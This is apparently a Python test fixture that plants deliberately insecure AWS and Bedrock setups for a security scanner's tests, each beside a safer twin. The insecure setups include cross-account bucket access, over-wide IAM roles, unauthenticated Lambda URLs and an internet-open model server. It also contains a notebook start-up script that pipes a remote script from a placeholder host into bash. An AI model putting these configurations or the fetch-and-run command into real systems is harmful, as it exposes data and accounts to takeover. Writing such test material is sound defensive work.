"""Plants toxic combinations, each beside a twin that lacks exactly one edge of the path.

They lie in an account of their own, whose identities hold what they are given by name and no more, so that every path is
one that was planted. What each must give stands in `tests/emulator/paths.rs`; the names here are those there.
"""
import base64
import json

STRANGER = "999988887777"
TRAINED = "out/{0}-train/output/model.tar.gz"
ENCRYPTED = "arn:aws:kms:us-east-1:{0}:key/0"


def policy(*statements):
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})


def allow(actions, resources, **more):
    return {"Effect": "Allow", "Action": actions, "Resource": resources, **more}


class Paths:
    def __init__(self, seeder, west, zipped):
        self.s, self.west, self.acct, self.zipped = seeder, west, seeder.account, zipped
        self.tags = {"env": "prod", "owner": "ml-platform"}

    def listed(self, key="Key", value="Value", **more):
        return [{key: k, value: v} for k, v in {**self.tags, **more}.items()]

    def role(self, name, service, *statements):
        trusted = {"Effect": "Allow", "Principal": {"Service": f"{service}.amazonaws.com"}, "Action": "sts:AssumeRole",
                   "Condition": {"StringEquals": {"aws:SourceAccount": self.acct}}}
        self.s.do("iam", "create_role", RoleName=name, AssumeRolePolicyDocument=policy(trusted), Tags=self.listed())
        if statements:
            self.s.do("iam", "put_role_policy", RoleName=name, PolicyName="inline", PolicyDocument=policy(*statements))
        return f"arn:aws:iam::{self.acct}:role/{name}"

    def user(self, name, *statements):
        self.s.do("iam", "create_user", UserName=name, Tags=self.listed())
        if statements:
            self.s.do("iam", "put_user_policy", UserName=name, PolicyName="inline", PolicyDocument=policy(*statements))

    def bucket(self, name, *statements, **tags):
        name = f"acme-{name}-{self.acct}"
        self.s.do("s3", "create_bucket", Bucket=name, ObjectOwnership="BucketOwnerEnforced")
        self.s.do("s3", "put_bucket_tagging", Bucket=name, Tagging={"TagSet": self.listed(**tags)})
        self.s.do("s3", "put_bucket_versioning", Bucket=name, VersioningConfiguration={"Status": "Enabled"})
        if statements:
            self.s.do("s3", "put_bucket_policy", Bucket=name, Policy=policy(*statements))
        return name

    def shared(self, name, actions):
        """What a stranger's account may do with the objects of a bucket."""
        return allow(actions, f"arn:aws:s3:::acme-{name}-{self.acct}/*", Principal={"AWS": f"arn:aws:iam::{STRANGER}:root"})

    def sagemaker(self, what):
        return f"arn:aws:sagemaker:us-east-1:{self.acct}:{what}"

    def model(self, name, artefacts, role, variant=None, **more):
        """A model in production: the model, its configuration and its endpoint."""
        S = "sagemaker"
        image = f"{self.acct}.dkr.ecr.us-east-1.amazonaws.com/ml/server@sha256:" + "c3" * 32
        self.s.do(S, "create_model", ModelName=f"{name}-model", ExecutionRoleArn=role, Tags=self.listed(),
                  PrimaryContainer={"Image": image, "ModelDataUrl": f"s3://{artefacts}/" + TRAINED.format(name)}, **more)
        self.s.do(S, "create_endpoint_config", EndpointConfigName=f"{name}-config", Tags=self.listed(), KmsKeyId=ENCRYPTED.format(self.acct),
                  ProductionVariants=[{"VariantName": "all", "ModelName": f"{name}-model", "InitialInstanceCount": 2, "InstanceType": "ml.m5.large", "InitialVariantWeight": 1.0, **(variant or {})}])
        self.s.do(S, "create_endpoint", EndpointName=f"{name}-live", EndpointConfigName=f"{name}-config", Tags=self.listed())

    def trained(self, name, data, artefacts, role):
        image = f"{self.acct}.dkr.ecr.us-east-1.amazonaws.com/ml/trainer@sha256:" + "d4" * 32
        self.s.do("sagemaker", "create_training_job", TrainingJobName=f"{name}-train", RoleArn=role, Tags=self.listed(),
                  AlgorithmSpecification={"TrainingImage": image, "TrainingInputMode": "File"},
                  InputDataConfig=[{"ChannelName": "train", "DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": f"s3://{data}/train", "S3DataDistributionType": "FullyReplicated"}}}],
                  OutputDataConfig={"S3OutputPath": f"s3://{artefacts}/out"}, ResourceConfig={"InstanceType": "ml.m5.large", "InstanceCount": 1, "VolumeSizeInGB": 20},
                  StoppingCondition={"MaxRuntimeInSeconds": 3600}, EnableNetworkIsolation=True)

    def notebook(self, name, role, open_to_internet, **more):
        kw = {"DirectInternetAccess": "Enabled"} if open_to_internet else {"DirectInternetAccess": "Disabled", "SubnetId": self.subnet, "SecurityGroupIds": [self.closed]}
        self.s.do("sagemaker", "create_notebook_instance", NotebookInstanceName=name, InstanceType="ml.t3.medium", RoleArn=role, RootAccess="Disabled",
                  PlatformIdentifier="notebook-al2-v3", VolumeSizeInGB=20, Tags=self.listed(), **kw, **more)

    def function(self, name, role, open_to_anyone=False):
        self.s.do("lambda", "create_function", FunctionName=name, Runtime="python3.12", Role=role, Handler="app.handler", Code={"ZipFile": self.zipped}, Tags=self.tags,
                  VpcConfig={"SubnetIds": [self.subnet], "SecurityGroupIds": [self.closed]})
        self.s.do("lambda", "add_permission", FunctionName=name, StatementId="bedrock", Action="lambda:InvokeFunction", Principal="bedrock.amazonaws.com", SourceAccount=self.acct)
        if open_to_anyone:
            self.s.do("lambda", "add_permission", FunctionName=name, StatementId="anyone", Action="lambda:InvokeFunctionUrl", Principal="*", FunctionUrlAuthType="NONE")
            self.s.do("lambda", "create_function_url_config", FunctionName=name, AuthType="NONE")
        return f"arn:aws:lambda:us-east-1:{self.acct}:function:{name}"

    def agent(self, name, role, tools=(), knowledge=None, at=None):
        """An agent that is served under an alias. `tools`: functions with the names of what they offer."""
        at, A = at or self.s, "bedrock-agent"
        made = at.do(A, "create_agent", agentName=name, foundationModel="amazon.nova-pro-v1:0", instruction="You look after the orders of customers of the shop.", agentResourceRoleArn=role,
                     idleSessionTTLInSeconds=600, tags=self.tags)
        agent = (made or {}).get("agent", {}).get("agentId", "AAAAAAAAAA")
        for function, offers, asked in tools:
            at.do(A, "create_agent_action_group", agentId=agent, agentVersion="DRAFT", actionGroupName=f"{name}-tools", actionGroupExecutor={"lambda": function},
                  functionSchema={"functions": [{"name": offer, "description": offer, "requireConfirmation": "ENABLED" if asked else "DISABLED"} for offer in offers]})
        if knowledge:
            at.do(A, "associate_agent_knowledge_base", agentId=agent, agentVersion="DRAFT", knowledgeBaseId=knowledge, description="what it knows")
        at.do(A, "create_agent_alias", agentId=agent, agentAliasName=f"{name}-alias", routingConfiguration=[{"agentVersion": "1"}])

    def knowledge(self, name, role, documents):
        A = "bedrock-agent"
        made = self.s.do(A, "create_knowledge_base", name=name, roleArn=role, tags=self.tags,
                         knowledgeBaseConfiguration={"type": "VECTOR", "vectorKnowledgeBaseConfiguration": {"embeddingModelArn": "arn:aws:bedrock:us-east-1::foundation-model/amazon.titan-embed-text-v2:0"}},
                         storageConfiguration={"type": "OPENSEARCH_SERVERLESS", "opensearchServerlessConfiguration": {"collectionArn": f"arn:aws:aoss:us-east-1:{self.acct}:collection/abc", "vectorIndexName": "ix", "fieldMapping": {"vectorField": "v", "textField": "t", "metadataField": "m"}}})
        knowledge = (made or {}).get("knowledgeBase", {}).get("knowledgeBaseId", "KBKBKBKBKB")
        self.s.do(A, "create_data_source", knowledgeBaseId=knowledge, name=f"{name}-source", dataSourceConfiguration={"type": "S3", "s3Configuration": {"bucketArn": f"arn:aws:s3:::{documents}"}})
        return knowledge

    def plant(self):
        self.network()
        self.train_and_serve()
        self.people()
        self.agents()
        self.machines()

    def network(self):
        s = self.s
        vpc = (s.do("ec2", "create_vpc", CidrBlock="10.8.0.0/16") or {}).get("Vpc", {}).get("VpcId")
        self.subnet = (s.do("ec2", "create_subnet", VpcId=vpc, CidrBlock="10.8.1.0/24") or {}).get("Subnet", {}).get("SubnetId")
        self.open = (s.do("ec2", "create_security_group", VpcId=vpc, GroupName="model-open", Description="open") or {}).get("GroupId")
        s.do("ec2", "authorize_security_group_ingress", GroupId=self.open, IpPermissions=[{"IpProtocol": "tcp", "FromPort": 11434, "ToPort": 11434, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
        self.closed = (s.do("ec2", "create_security_group", VpcId=vpc, GroupName="model-closed", Description="closed") or {}).get("GroupId")

    def train_and_serve(self):
        s = self.s
        # TC-01: what a notebook fetches poisons the data behind an endpoint. The twin's role only reads the data.
        art = self.bucket("served")
        loads = self.role("loads-served", "sagemaker", allow("s3:GetObject", f"arn:aws:s3:::{art}/*"))
        trains = self.role("trains", "sagemaker", allow("s3:PutObject", f"arn:aws:s3:::{art}/*"))
        data = self.bucket("notes")
        self.trained("notes", data, art, trains)
        self.model("notes", art, loads)
        self.notebook("lab", self.role("lab-writes", "sagemaker", allow("s3:PutObject", f"arn:aws:s3:::{data}/*")), True)
        self.notebook("lab-twin", self.role("lab-reads", "sagemaker", allow("s3:GetObject", f"arn:aws:s3:::{data}/*")), True)

        # TC-02: start-up code from elsewhere, an old metadata service and a wide role. The twin has no start-up script.
        wide = self.role("reads-everything", "sagemaker", allow("s3:GetObject", "*"))
        s.do("sagemaker", "create_notebook_instance_lifecycle_config", NotebookInstanceLifecycleConfigName="fetches",
             OnStart=[{"Content": base64.b64encode(b"#!/bin/bash\ncurl -s https://get.example.com/setup.sh | bash\n").decode()}])
        self.notebook("bench", wide, False, LifecycleConfigName="fetches")
        self.notebook("bench-twin", wide, False)

        # TC-05: another account writes what a served model learns from. The twin's account may only read.
        for name, actions in (("orders", "s3:PutObject"), ("orders-twin", "s3:GetObject")):
            self.trained(name, self.bucket(name, self.shared(name, actions)), art, trains)
            self.model(name, art, loads)

        # TC-06: an outsider swaps weights that are loaded with wide rights. Nobody may write the twin's.
        for name in ("swap", "swap-twin"):
            self.model(name, self.bucket(name), wide)
        self.user("swapper", allow("s3:PutObject", f"arn:aws:s3:::acme-swap-{self.acct}/*"))

        # TC-23: another account takes the weights. The twin's bucket is shared with nobody.
        for name, statements in (("weights", [self.shared("weights", "s3:GetObject")]), ("weights-twin", [])):
            self.model(name, self.bucket(name, *statements), loads)

        # TC-08: somebody points an endpoint at a model of his. The twin is another endpoint.
        self.model("prices", art, loads)
        self.model("prices-twin", art, loads)
        self.user("redirector", allow("sagemaker:UpdateEndpoint", self.sagemaker("endpoint/prices-live")), allow("sagemaker:CreateEndpointConfig", "*"))

        # TC-09: a shell behind an endpoint reads what the model learnt from. The twin's role reads nothing.
        sees = self.role("shell-reads", "sagemaker", allow("s3:GetObject", f"arn:aws:s3:::{data}/*"))
        blind = self.role("shell-blind", "sagemaker", allow("cloudwatch:PutMetricData", "*"))
        self.model("shell", art, sees, {"EnableSSMAccess": True})
        self.model("shell-twin", art, blind, {"EnableSSMAccess": True})
        self.user("operator", allow("ssm:StartSession", "*"))

    def people(self):
        # TC-03: a notebook is opened for its role. The twin may only look at it.
        bench = self.sagemaker("notebook-instance/bench")
        self.user("opener", allow("sagemaker:CreatePresignedNotebookInstanceUrl", bench))
        self.user("opener-twin", allow("sagemaker:DescribeNotebookInstance", bench))

        # TC-04: a strong role is passed to a new job. The twin may not pass it.
        strong = self.role("strong", "sagemaker", allow("s3:GetObject", "*"))
        self.user("passer", allow("sagemaker:CreateTrainingJob", "*"), allow("iam:PassRole", strong))
        self.user("passer-twin", allow("sagemaker:CreateTrainingJob", "*"))

        # TC-10: a key to models that never ends, where calls are not recorded. The twin's key is switched off.
        for name in ("key-holder", "key-holder-twin"):
            self.user(name, allow("bedrock:InvokeModel", "arn:aws:bedrock:*::foundation-model/*"))
            made = self.s.do("iam", "create_service_specific_credential", UserName=name, ServiceName="bedrock.amazonaws.com")
            if name.endswith("twin") and made:
                self.s.do("iam", "update_service_specific_credential", UserName=name, Status="Inactive",
                          ServiceSpecificCredentialId=made["ServiceSpecificCredential"]["ServiceSpecificCredentialId"])

        # TC-22: another account reads prompts and answers. The twin is the log of the managing account.
        log = self.bucket("prompts", self.shared("prompts", "s3:GetObject"))
        self.s.do("bedrock", "put_model_invocation_logging_configuration", loggingConfig={"s3Config": {"bucketName": log}, "textDataDeliveryEnabled": True})

    def agents(self):
        acts = self.role("AmazonBedrockExecutionRoleForAgents_shop", "bedrock", allow("bedrock:InvokeModel", "arn:aws:bedrock:us-east-1::foundation-model/amazon.nova-pro-v1:0"))
        people = self.bucket("customers", **{"data-classification": "pii"})
        reads = self.role("tool-reads", "lambda", allow("s3:GetObject", f"arn:aws:s3:::{people}/*"))
        nothing = self.role("tool-nothing", "lambda", allow("cloudwatch:PutMetricData", "*"))

        # TC-13: an agent reads the web and customers, and sends. The tool of the twin reads no customers.
        self.agent("shopper", acts, [(self.function("shop", reads), ["fetch_url", "send_email"], False)])
        self.agent("shopper-twin", acts, [(self.function("shop-twin", nothing), ["fetch_url", "send_email"], False)])

        # TC-14: somebody writes what an agent knows. Nobody may write what the twin knows.
        keeps = self.role("AmazonBedrockExecutionRoleForKnowledgeBase_shop", "bedrock", allow("s3:GetObject", f"arn:aws:s3:::acme-manuals*-{self.acct}/*"))
        for name in ("manuals", "manuals-twin"):
            self.agent(f"{name}-agent", acts, knowledge=self.knowledge(f"{name}-base", keeps, self.bucket(name)))
        self.user("editor", allow("s3:PutObject", f"arn:aws:s3:::acme-manuals-{self.acct}/*"))

        # TC-15: an address that asks nobody, before a role that reads customers. The twin's role reads nothing.
        # The agents make both part of the estate, and ask before they call.
        for name, role in (("door", reads), ("door-twin", nothing)):
            self.agent(f"{name}-agent", acts, [(self.function(name, role, open_to_anyone=True), ["get_status"], True)])

        # TC-21: somebody changes the code of a tool. Nobody may change the twin's.
        for name in ("ledger", "ledger-twin"):
            self.agent(f"{name}-agent", acts, [(self.function(name, nothing), ["update_entry"], False)])
        self.user("hijacker", allow("lambda:UpdateFunctionCode", f"arn:aws:lambda:us-east-1:{self.acct}:function:ledger"))

        # TC-40: an agent where calls are not recorded. The twin is each agent where they are.
        self.agent("untraced", acts, at=self.west)

    def machines(self):
        s, C = self.s, "bedrock-agentcore-control"
        # TC-16: an interpreter lends its role to whoever may start it. Nobody may start the twin.
        lends = self.role("interpreter-role", "bedrock-agentcore", allow("s3:GetObject", "*"))
        for name in ("lends", "lends_twin"):
            made = s.do(C, "create_code_interpreter", name=name, executionRoleArn=lends, networkConfiguration={"networkMode": "SANDBOX"}, tags=self.tags)
            if name == "lends":
                self.user("coder", allow(["bedrock-agentcore:StartCodeInterpreterSession", "bedrock-agentcore:InvokeCodeInterpreter"], (made or {}).get("codeInterpreterArn", "*")))

        # TC-18: a runtime that nobody entered anywhere has wide rights. The twin is in a registry.
        runs = self.role("runtime-role", "bedrock-agentcore", allow("s3:GetObject", "*"))
        image = f"{self.acct}.dkr.ecr.us-east-1.amazonaws.com/ml/agent@sha256:" + "e5" * 32
        registry = s.do(C, "create_registry", name="known") or {}
        for name in ("shadow", "shadow_twin"):
            made = s.do(C, "create_agent_runtime", agentRuntimeName=name, agentRuntimeArtifact={"containerConfiguration": {"containerUri": image}}, roleArn=runs,
                        networkConfiguration={"networkMode": "PUBLIC"}, tags=self.tags)
            if name != "shadow" and made:
                s.do(C, "create_registry_record", registryId=registry.get("registryArn", "").rsplit("/", 1)[-1], name="twin", descriptorType="CUSTOM",
                     descriptors={"custom": {"inlineContent": json.dumps({"runtime": made["agentRuntimeArn"]})}})

        # TC-37: policies of a gateway only take notes, before a target that changes things. The twin has no target.
        reach = self.role("gateway-role", "bedrock-agentcore", allow("bedrock-agentcore:InvokeGateway", "*"))
        jwt = {"customJWTAuthorizer": {"discoveryUrl": "https://idp.example.com/.well-known/openid-configuration", "allowedAudience": ["acme"], "allowedClients": ["c1"]}}
        for name in ("notes-only", "notes-only-twin"):
            made = s.do(C, "create_gateway", name=name, roleArn=reach, protocolType="MCP", authorizerType="CUSTOM_JWT", authorizerConfiguration=jwt, tags=self.tags,
                        policyEngineConfiguration={"arn": f"arn:aws:bedrock-agentcore:us-east-1:{self.acct}:policy-engine/pe-1-abcdefghij", "mode": "LOG_ONLY"})
            if name == "notes-only" and made:
                s.do(C, "create_gateway_target", gatewayIdentifier=made["gatewayId"], name="orders-api", credentialProviderConfigurations=[{"credentialProviderType": "GATEWAY_IAM_ROLE"}],
                     targetConfiguration={"mcp": {"lambda": {"lambdaArn": f"arn:aws:lambda:us-east-1:{self.acct}:function:ledger-twin", "toolSchema": {"inlinePayload": [{"name": "delete_order", "description": "Deletes an order", "inputSchema": {"type": "object"}}]}}}})

        # TC-24: a model server open to the internet has rights in the cloud. The twin's ports are closed.
        self.role("box-role", "ec2", allow("s3:GetObject", f"arn:aws:s3:::acme-customers-{self.acct}/*"))
        s.do("iam", "create_instance_profile", InstanceProfileName="box")
        s.do("iam", "add_role_to_instance_profile", InstanceProfileName="box", RoleName="box-role")
        ami = ((s.do("ec2", "describe_images", Owners=["amazon"]) or {}).get("Images") or [{"ImageId": "ami-12c6146b"}])[0]["ImageId"]
        for name, group in (("box", self.open), ("box-twin", self.closed)):
            s.do("ec2", "run_instances", ImageId=ami, MinCount=1, MaxCount=1, InstanceType="g5.xlarge", IamInstanceProfile={"Name": "box"}, MetadataOptions={"HttpTokens": "required", "HttpEndpoint": "enabled"},
                 NetworkInterfaces=[{"DeviceIndex": 0, "SubnetId": self.subnet, "Groups": [group], "AssociatePublicIpAddress": True}],
                 TagSpecifications=[{"ResourceType": "instance", "Tags": self.listed(Name=name)}])
